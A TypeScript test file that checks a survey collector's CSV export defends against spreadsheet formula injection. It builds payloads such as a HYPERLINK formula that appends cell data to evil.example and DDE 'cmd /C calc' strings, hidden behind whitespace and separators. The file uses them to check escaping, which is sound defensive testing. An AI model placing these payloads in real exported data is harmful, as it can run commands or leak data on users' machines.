import {describe, expect, it} from 'vitest';
import {csvCell} from '../../src/collector/csv.js';
import {onEachEngine} from '../collector/engines.js';
import {answer, get, openCollector, post} from '../collector/harness.js';

const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const leads = ['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\0', '\u00A0', '\u200B', '\uFEFF', '\u3000', '\u2060 '];
const calls = [
  '1+1',
  'HYPERLINK("https://evil.example/?"&A1;"Open")',
  `cmd|' /C calc'!A0`,
  'SUM(1+1)*cmd|"/C calc"!A0',
  'WEBSERVICE("x")',
];

/** Everything that a spreadsheet could run, by itself and behind whatever it skips or cuts at. */
const formulas = leads.flatMap(lead => signs.flatMap(sign => calls.map(call => lead + sign + call)));
const hidden = [';', ';;', 'Nice; ', 'Nice;\t', 'Nice\t', 'Nice\n', 'Nice\r\n', 'Nice\r'].flatMap(lead =>
  signs.map(sign => lead + sign + calls[2]),
);

/** Reads CSV as RFC 4180 says: a quote opens a cell only at its start. */
function cells(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let [at, cell] = [0, ''];
  const close = () => {
    rows.at(-1)!.push(cell);
    cell = '';
  };
  while (at < text.length) {
    const character = text[at++]!;
    if (character === '"' && cell === '') {
      for (; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      }
      at++;
    } else if (character === separator) close();
    else if (character === '\n' || character === '\r') {
      if (character === '\r' && text[at] === '\n') at++;
      close();
      rows.push([]);
    } else cell += character;
  }
  close();
  return rows;
}

const isFormula = (cell: string) => /^[\s\u200B-\u200F\u2060]*[=+\-@\0\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell);

/** An answer with a text in every member that becomes a cell. */
const filled = (id: string, text: string) =>
  answer(id, {
    survey: text.slice(0, 100),
    touchpoint: text.slice(0, 60),
    locale: text.slice(0, 30),
    response: `${text.slice(0, 50)}${id}`,
    answers: {score: 9, comment: text, reasons: [text, text], title: text, text, name: text, contact: {email: text, phone: text}},
    context: {key: text},
    visitor: {id: text.slice(0, 60), name: text, email: text},
    page: {url: text},
  });

describe('csvCell', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['+49 30', `'+49 30`],
    ['-cheap', `'-cheap`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['  =1+1', `'  =1+1`],
    ['\uFF1D1', `'\uFF1D1`],
    ['\0=1', `'\0=1`],
    ['\tx', `"'\tx"`],
    ['=HYPERLINK("x";"y")', `"'=HYPERLINK(""x"";""y"")"`],
    ['good; =1+1', `"good;' =1+1"`],
    ['good\r\n-1', `"good\r\n'-1"`],
    ['a, b', '"a, b"'],
    ['5 = 5', '5 = 5'],
    ['a; b', '"a; b"'],
    [-5, '-5'],
    [4.5, '4.5'],
    [true, 'true'],
    [null, ''],
  ])('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

onEachEngine(() => {
  describe('the export of formulas', () => {
    it('has no cell that begins one, wherever a spreadsheet cuts', async () => {
      const collector = openCollector();
      const texts = [...formulas, ...hidden];
      for (let from = 0; from < texts.length; from += 15)
        expect(
          (
            await post(
              collector,
              texts.slice(from, from + 15).map((text, n) => filled(`a${from + n}`, text)),
            )
          ).status,
        ).toBe(200);

      const response = await get(collector, '/api/export.csv');
      const csv = (await response.text()).slice(1);

      expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const rows = cells(csv).filter(row => row.length > 1);
      expect(rows).toHaveLength(1 + texts.length);
      expect(new Set(rows.map(({length}) => length))).toEqual(new Set([22]));
      for (const separator of [',', ';', '\t']) expect(cells(csv, separator).flat().filter(isFormula)).toEqual([]);
    }, 30_000);
  });
});
